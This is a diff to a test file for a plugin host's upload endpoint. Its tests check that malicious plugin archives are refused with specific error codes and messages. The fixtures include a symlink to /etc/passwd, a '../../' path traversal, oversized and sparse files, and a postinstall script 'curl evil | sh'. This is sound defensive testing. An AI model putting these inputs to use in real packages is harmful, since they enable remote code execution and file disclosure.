@@ -1,8 +1,9 @@
 import { generateKeyPairSync } from 'node:crypto'
 import { appendFile, mkdir, readdir, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
+import { gzipSync } from 'node:zlib'
 import { signTree } from '@patchbay/plugin-host/packages/signature'
-import { packArchive } from '@patchbay/plugin-host/packages/pack'
+import { packArchive, type TarEntry, toTar } from '@patchbay/plugin-host/packages/pack'
 import { readArchive, unpackArchive } from '@patchbay/plugin-host/packages/unpack'
 import { hashTree } from '@patchbay/plugin-host/packages/tree-hash'
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
@@ -244,12 +245,44 @@ describe('what is refused at the door', () => {
   beforeAll(open)
   afterAll(close)
 
-  const refused: [string, () => Buffer, number, string][] = [
+  const archiveOf = (entry: TarEntry) => (): Buffer => gzipSync(toTar([entry]))
+  const sizeBytes = 5 * 1024 ** 3
+  /** The sentences are those of docs/plugins/failures.md. */
+  const refused: [string, () => Buffer, number, string, string?][] = [
+    [
+      'a symbolic link',
+      archiveOf({ path: 'package/l', type: '2', link: '/etc/passwd' }),
+      422,
+      'PACKAGE_ENTRY_REFUSED',
+      'The archive holds a symbolic link ("package/l"); only plain files may be in a plugin.',
+    ],
+    [
+      'a path that leads out',
+      archiveOf({ path: 'package/../../evil', bytes: Buffer.from('x') }),
+      422,
+      'PACKAGE_PATH_REFUSED',
+      'The archive holds "package/../../evil", which leads out of the package.',
+    ],
+    [
+      'a sparse file of 5 GB',
+      archiveOf({ path: 'package/s', type: 'S', sizeBytes }),
+      422,
+      'PACKAGE_ENTRY_REFUSED',
+      'The archive holds a sparse file ("package/s"); only plain files may be in a plugin.',
+    ],
+    [
+      'a file of 5 GB',
+      archiveOf({ path: 'package/s', sizeBytes }),
+      413,
+      'PACKAGE_TOO_LARGE',
+      'The archive is refused: a file of it has 5368709120 bytes, more than 16777216. A plugin is one packed file with its manifest.',
+    ],
     [
       'an install script',
       () => packFeed({ pack: { scripts: { postinstall: 'curl evil | sh' } } }),
       422,
       'PACKAGE_RULE_BROKEN',
+      'acme-feed is refused: its package.json has the script postinstall, and none is ever run here; build before packing.',
     ],
     ['packages beside it', () => packFeed({ pack: { dependencies: { left: '1.0.0' } } }), 422, 'PACKAGE_RULE_BROKEN'],
     ['native code', () => packFeed({ files: { 'dist/a.node': 'x' } }), 422, 'PACKAGE_RULE_BROKEN'],
@@ -273,10 +306,11 @@ describe('what is refused at the door', () => {
     ['no gzip', () => Buffer.from('hello'), 422, 'PACKAGE_MALFORMED'],
     ['too many bytes', () => Buffer.alloc(21 * 1024 * 1024), 413, 'PAYLOAD_TOO_LARGE'],
   ]
-  test.each(refused)('%s', async (_name, make, status, code) => {
+  test.each(refused)('%s', async (_name, make, status, code, sentence) => {
     const answer = await upload(make(), '?approve=true')
     expect([answer.status, answer.body.code]).toEqual([status, code])
     expect(answer.body.detail.length).toBeGreaterThan(20)
+    if (sentence !== undefined) expect(answer.body.detail).toBe(sentence)
     expect((await api.get('/api/v1/plugins')).body.items).toEqual([])
     expect(await folders()).toEqual([])
   })
